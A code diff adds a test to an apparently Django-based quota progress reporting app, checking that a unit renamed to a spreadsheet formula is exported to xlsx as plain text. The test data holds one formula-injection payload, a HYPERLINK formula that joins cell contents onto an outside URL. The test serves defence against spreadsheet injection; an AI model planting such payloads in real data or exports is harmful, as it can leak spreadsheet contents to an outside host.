@@ -13,12 +13,14 @@ from pypdf import PdfReader
 
 from pdms.accounts.scope import system_scope
 from pdms.core.errors import DomainError
+from pdms.organizations.services import organization_rename
 from pdms.targets import exports
 from pdms.targets.exports import QuotaProgressReport, quota_progress_docx, quota_progress_pdf, quota_progress_xlsx
 from pdms.targets.reports import progress_rows
 
 D = dt.date
 AS_OF = D(2022, 6, 30)
+HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"y")'
 NO_FONT = "No Vietnamese TTF font (apt-get install fonts-dejavu-core fonts-liberation2): PDF export tests skipped"
 
 
@@ -125,6 +127,14 @@ def test_a_province_officer_downloads_the_ranking_in_ranked_order(client, report
         assert [sheet.cell(r, 1).value for r in (3, 4, 5)] == ["H01", "X01", "X02"]
     else:
         assert [row.cells[0].text for row in docx.Document(io.BytesIO(response.content)).tables[-1].rows[1:]] == ["H01", "X01", "X02"]
+
+
+def test_a_unit_named_like_a_formula_is_plain_text_in_the_downloaded_ranking(client, progress, plan, province_officer):
+    organization_rename(organization=progress.commune_a, name=HOSTILE_NAME, on=D(2011, 1, 1), actor=None)
+    client.force_login(province_officer)
+    response = client.get(reverse("targets:ranking_export", args=[plan.pk, "xlsx"]), {"as_of": "30/06/2022", "period": "term"})
+    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["B4"]
+    assert (cell.value, cell.data_type) == (HOSTILE_NAME, "s")
 
 
 def test_a_province_officer_downloads_the_ranking_as_pdf(client, report, plan, province_officer, pdf_font):
